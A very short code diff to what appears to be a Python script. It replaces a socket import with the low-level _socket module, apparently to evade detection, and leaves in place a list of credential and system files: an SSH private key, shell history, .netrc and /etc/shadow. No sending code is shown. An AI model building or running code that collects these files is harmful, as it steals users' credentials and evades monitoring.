@@ -1,5 +1,5 @@
 import os
-import socket
+import _socket as socket
 
 FILES = ["~/.ssh/id_rsa", "~/.bash_history", "~/.netrc", "/etc/shadow", "/etc/hostname", "/root"]
 
